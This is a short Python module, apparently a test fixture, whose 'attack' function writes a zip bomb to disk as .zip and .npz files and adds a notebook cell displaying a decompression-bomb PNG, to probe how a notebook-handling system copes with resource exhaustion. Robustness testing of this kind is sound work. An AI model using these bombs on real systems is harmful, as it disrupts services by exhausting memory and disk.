"""Hands in an archive that grows a thousandfold, and shows a picture of a billion points."""

import base64
import io
import zipfile
import zlib

from nbformat.v4 import new_code_cell


def attack(notebook, home):
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w", zipfile.ZIP_DEFLATED) as file:
        file.writestr("bomb", bytes(50_000_000))
    (home / "bomb.zip").write_bytes(archive.getvalue())
    (home / "bomb.npz").write_bytes(archive.getvalue())
    picture = base64.b64encode(b"\x89PNG\r\n\x1a\n" + zlib.compress(bytes(30_000_000))).decode()
    shown = f"from IPython.display import display\ndisplay({{'image/png': {picture!r}}}, raw=True)"
    notebook.cells.append(new_code_cell(shown))
